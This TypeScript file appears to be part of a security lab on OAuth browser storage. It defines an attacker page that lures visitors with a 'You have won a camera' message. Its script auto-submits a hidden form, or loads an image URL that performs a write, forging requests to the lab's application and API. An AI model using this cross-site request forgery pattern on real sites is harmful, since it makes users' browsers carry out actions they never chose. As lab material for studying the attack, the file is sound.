import { callsApiItself, PLANTED, STORAGE_LAB_PATH, storageChoice } from '@/lib/oauth/browser-storage'
import type { AttackerPage } from '../environment'

/**
 * `GET /forged-form?choice=&way=form|link`: a page that has the browser of whoever opens it send a form to the
 * application, with a title of its own (RFC 10017, section 6.1.3.3). `form` posts, and loads a picture as well whose
 * address is a write; `link` asks for that address as a page, as if a link had been followed.
 */
export const forgedForm: AttackerPage = (request, { origins }) => {
  const { searchParams } = new URL(request.url)
  const choice = storageChoice(searchParams.get('choice') ?? '')
  if (!choice) return new Response('Which application?\n', { status: 404 })
  const posts = searchParams.get('way') !== 'link'
  const base = `${origins.client}${STORAGE_LAB_PATH}/${choice.id}`
  const api = `${origins.resource}/photos`
  const [post, get] = callsApiItself(choice) ? [api, api] : [`${base}/photos`, `${base}/add`]
  const title = posts ? PLANTED.form : PLANTED.link
  const page = `<!doctype html>
<html lang="en">
<title>You have won</title>
<h1>You have won a camera</h1>
<p>One moment …</p>
${posts ? '<img alt="">' : ''}
<form method="${posts ? 'post' : 'get'}" action="${posts ? post : get}"><input type="hidden" name="title"></form>
<script>
const mark = crypto.randomUUID().slice(0, 8)
const form = document.forms[0]
form.elements.title.value = '${title} ' + mark
const picture = document.querySelector('img')
if (picture) {
  picture.onload = picture.onerror = () => form.submit()
  picture.src = '${get}?' + new URLSearchParams({ title: '${PLANTED.image} ' + mark })
} else form.submit()
</script>
`
  return new Response(page, { headers: { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' } })
}
